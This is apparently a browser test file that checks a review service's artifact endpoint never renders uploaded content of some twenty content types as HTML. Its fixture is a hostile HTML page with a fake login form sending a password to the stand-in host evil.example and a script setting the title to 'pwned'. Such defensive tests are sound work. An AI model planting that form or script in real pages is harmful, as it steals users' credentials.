"""Real Chromium: every content type the service accepts is shown as text, as an image/PDF, or
downloaded — never rendered as HTML on our origin (API.md "Content").

The body of every artifact is an HTML page with a fake login form and a script; a browser that
rendered it as HTML would put the form into the DOM (and the script, were it not for the sandbox,
would retitle the page).
"""

from __future__ import annotations

import pytest

from tests.browser.conftest import live_ready, log_in

pytestmark = [
    pytest.mark.browser,
    pytest.mark.slow,
    pytest.mark.timeout(300),
    pytest.mark.skipif(not live_ready(), reason="needs the REST API"),
]

HOSTILE = (
    "<!doctype html><html><head><title>fake</title></head><body>"
    '<form id="fake-login" action="https://evil.example/"><input name="password"></form>'
    "<script>document.title = 'pwned'</script></body></html>"
)

# What an agent might tag: the inline-safe list, every type a browser renders as a document
# (HTML, XHTML, SVG, XML), types with parameters and odd case, and plain bytes.
TYPES = [
    "text/plain",
    "text/plain; charset=utf-8",
    "TEXT/PLAIN; Charset=UTF-8",
    "application/json",
    "image/png",
    "image/jpeg",
    "image/gif",
    "image/webp",
    "application/pdf",
    "text/html",
    "text/html; charset=utf-8",
    "application/xhtml+xml",
    "image/svg+xml",
    "text/xml",
    "application/xml",
    "text/markdown",
    "text/javascript",
    "multipart/x-mixed-replace; boundary=x",
    "message/rfc822",
    "application/octet-stream",
    "application/x-unknown",
]


@pytest.fixture(scope="module")
def sup_page(live, browser):
    """One logged-in staff browser for all the types (logging in is most of a test's time)."""
    context = browser.new_context(accept_downloads=True)
    page = context.new_page()
    log_in(page, live, "sup", "sup-pw-12345", next_url="/accounts/login/")
    yield page
    context.close()


@pytest.mark.parametrize("content_type", TYPES)
def test_content_is_never_rendered_as_html(live, sup_page, content_type):
    page = sup_page
    record = live.tag(
        kind="report",
        key=f"browser/{content_type.split(';')[0].replace('/', '-')}",
        data={},
        contents=HOSTILE,
        contentType=content_type,
    )
    url = f"{live.url}/reviewer/v1/artifacts/{record['id']}/content"
    downloaded = []

    def listener(download):
        downloaded.append(download)

    page.on("download", listener)
    try:
        response = page.goto(url)
    except Exception as exc:  # Chromium aborts the navigation when the response is a download
        assert "Download is starting" in str(exc) or "net::ERR_ABORTED" in str(exc), exc
        response = None
    if response is None and not downloaded:
        # The aborted navigation returns before Chromium reports the download: wait for it.
        downloaded.append(page.wait_for_event("download", timeout=60_000))
    page.remove_listener("download", listener)
    if response is None or downloaded:
        assert downloaded, f"{content_type}: navigation aborted without a download"
        assert downloaded[0].suggested_filename  # a name a person recognises
        return
    # Shown: as text (the markup visible as characters), as an image, or in the PDF viewer.
    assert page.locator("#fake-login").count() == 0, f"{content_type} was rendered as HTML"
    assert page.title() != "pwned"
    if "pdf" not in content_type:  # the PDF viewer is a page of Chromium's own
        assert response.headers["content-security-policy"] == "sandbox"
    if content_type.lower().startswith(("text/plain", "application/json")):
        assert "fake-login" in page.locator("body").inner_text()
